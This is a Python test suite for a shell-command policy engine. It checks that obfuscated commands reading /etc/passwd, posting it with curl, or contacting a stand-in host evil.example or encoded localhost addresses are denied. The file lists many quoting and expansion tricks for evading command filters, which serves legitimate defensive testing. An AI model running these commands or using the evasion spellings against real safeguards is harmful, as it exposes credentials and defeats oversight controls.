"""The words of a command are read as a shell reads them: bash itself says what a spelling means."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from interlock.authority import facts as f
from interlock.authority.commands import read_command
from interlock.core.errors import Failure
from tests.authority.questions import PolicyHome, contract, question

TOOL = contract({"command": {"x-command": True}})
PATHS, HOSTS = frozenset({"paths"}), frozenset({"hosts"})
RULES = """
permit (principal, action, resource);
@id("no-etc") forbid (principal, action, resource) when { context.paths.contains("/etc") };
@id("no-evil") forbid (principal, action, resource) when { context.hosts.contains("evil.example") };
@id("no-local") forbid (principal, action, resource) when { context.hosts.contains("127.0.0.1") };
"""


@pytest.fixture
def world(tmp_path: Path) -> PolicyHome:
    return PolicyHome(tmp_path, RULES)


@pytest.mark.parametrize(
    "command",
    [
        "cat /e''tc/passwd", "cat /e\\tc/passwd", 'cat "/etc"/passwd', "cat '/et'c/passwd", "cat /etc\\\n/passwd",
        "cat $'/etc/passwd'", "cd / && cat etc/passwd", "cd /; cat 'etc'/passwd", "cd -P / && cat ./etc/passwd",
        "tar -C/etc -cf x passwd", "tar -C / -cf x etc/passwd", "tar --directory=/etc -c .", "tar -cf x -C / etc",
        "dd if=/etc/passwd", "curl -d@/etc/passwd x", "cat </etc/passwd", "cat x >/etc/motd", "X=/etc/passwd true",
        "cp x host:/etc/y", "f() { cat etc/passwd; }; cd /; f", "pushd / && cat etc/x", "sh -c 'cat /e\\tc/passwd'",
        "env -C / cat etc/passwd", "git -C / show etc", "cat /srv/../etc/passwd", "sh <<E\ncat /e''tc/x\nE",
        "bash <<< \"cat /e''tc/x\"", ["tar", "-C/etc", "x"], ["sh", "-c", "cat /e''tc/x"], "ls -I/etc",
        "make -C / -f etc/x", "find / -path etc/x",
    ],
)  # fmt: skip
def test_a_blocked_directory_is_met_in_every_word(world: PolicyHome, command: object) -> None:
    decision = world.engine.judge(question(TOOL, {"command": command}))
    assert (decision.behavior, decision.rules) == ("deny", ("no-etc",))


@pytest.mark.parametrize(
    "command",
    [
        "cat /et?/passwd", "cat /[e]tc/passwd", "cat /*/passwd", "cat /{etc,x}/passwd", "cat $'/e\\x74c/passwd'",
        "cat ${X:-/etc/passwd}", "cat $X", "cat \"$X\"", "cat $(echo /etc)/x", "cat `echo /etc`/x", "cat ~/x",
        "cat ~root/x", "cat /e@(tc)/passwd", "cd && cat x", "cd - && cat x", "cd .. && cat etc/x", "cd $X; cat etc/x",
        "for x in /e*; do cat $x; done", "curl $((2130706433))", "popd; cat etc/x", "cat >$X",
        "bash <<< $X", "cd a; cd b; cd c; cd d; cd e; cd f; cat x",
    ],
)  # fmt: skip
def test_a_word_that_only_a_shell_can_expand_is_refused(world: PolicyHome, command: str) -> None:
    decision = world.engine.judge(question(TOOL, {"command": command}))
    assert (decision.behavior, decision.rules) == ("deny", ())
    assert "argument `command`" in decision.reason


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example", "curl EVIL.example/x", "curl -s evil.example:8080/x", "ssh me@evil.example",
        "nc a.evil.example 1",
        "curl --url=evil.example", "curl -xevil.example x", "curl ev''il.example", "curl ht\\tps://evil.example",
        "git clone git@evil.example:a/b", ["curl", "evil.example"], "sh -c 'curl evil.example'",
        "curl https://evil.example",
        "scp x evil.example:", "http_proxy=evil.example curl x",
    ],
)  # fmt: skip
def test_a_blocked_host_is_met_in_every_word(world: PolicyHome, command: object) -> None:
    decision = world.engine.judge(question(TOOL, {"command": command}))
    assert (decision.behavior, decision.rules) == ("deny", ("no-evil",))


@pytest.mark.parametrize(
    "command",
    ["curl 2130706433", "curl 0x7f.1", "curl '[::ffff:127.0.0.1]:80'", "curl 64:ff9b::7f00:1", "ping ::127.0.0.1"],
)
def test_an_address_in_a_command_is_met_in_every_way_of_writing_it(world: PolicyHome, command: str) -> None:
    rules = world.engine.judge(question(TOOL, {"command": command})).rules
    assert rules == ("no-local",)


def test_a_harmless_command_is_left_alone(world: PolicyHome) -> None:
    for command in ("git log -n 3", "[ -f x ] && cat x", "cd /srv && make", "echo 'a b' \"c\" >/dev/null", ["ls", "*"]):
        assert world.says(question(TOOL, {"command": command})) == "allow"


def test_a_command_with_too_many_paths_is_refused_in_bounded_time(world: PolicyHome) -> None:
    command = "cat " + " ".join(f"/a{at} b{at}" for at in range(2000))
    assert "more paths than rules can look at" in world.engine.judge(question(TOOL, {"command": command})).reason


# Bash is the judge


def _quoted(text: str) -> st.SearchStrategy[str]:
    """Spellings of a text that mean the same to a shell, or may."""
    ways = [f"'{text}'", f'"{text}"', "".join(f"\\{letter}" for letter in text), text, f"''{text}", f'{text}""']
    ways += [f"$'{text}'", f"{text[:1]}\\\n{text[1:]}", f"${{X:-{text}}}", f"$(printf %s {text})", f"{{{text},{text}}}"]
    ways += [
        f"[{text[:1]}]{text[1:]}",
        f"{text[:-1]}?",
        f"$'\\x{ord(text[0]):02x}{text[1:]}'",
        f"`echo {text}`",
        f'$"{text}"',
    ]
    return st.sampled_from(ways)


@st.composite
def spellings(draw: st.DrawFn) -> str:
    """A path in pieces, each written in another way."""
    parts = ["/", *draw(st.sampled_from([["etc"], ["e", "tc"], ["et", "c"]])), "/", "passwd"]
    return "".join(draw(_quoted(part)) for part in parts)


def printed(words: str) -> list[str]:
    """The words that bash makes of a text."""
    script = f"show() {{ shift; [ $# = 0 ] || printf '%s\\0' \"$@\"; }}\nshow x {words}"
    shell = subprocess.run(["bash", "-c", script], capture_output=True, check=True, env={"PATH": "/bin"}, cwd="/")
    return shell.stdout.decode().split("\0")[:-1]


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(spelling=spellings())
@example(spelling="/e''tc/passwd")
@example(spelling="/e\\tc/passwd")
@example(spelling="$'/e\\x74c/passwd'")
def test_what_bash_makes_of_a_spelling_is_a_fact_or_the_command_is_refused(spelling: str) -> None:
    try:
        found = f.facts(TOOL, {"command": f"cat {spelling}"}, None, PATHS)["paths"]
    except Failure:
        return
    assert {word for word in printed(spelling) if word.startswith("/")} <= set(found)


@settings(max_examples=60, deadline=None)
@given(text=st.text(alphabet="ab/'\"\\$ *?[]{},~x\n=", max_size=12))
def test_a_fixed_word_is_the_word_that_bash_makes_of_it(text: str) -> None:
    try:
        reading = read_command(f"true {text}")
    except Failure:
        return
    words = reading.words[1:]
    if reading.plain and all(word.fixed and "~" not in word.raw for word in words):
        assert [word.text for word in words] == printed(text)
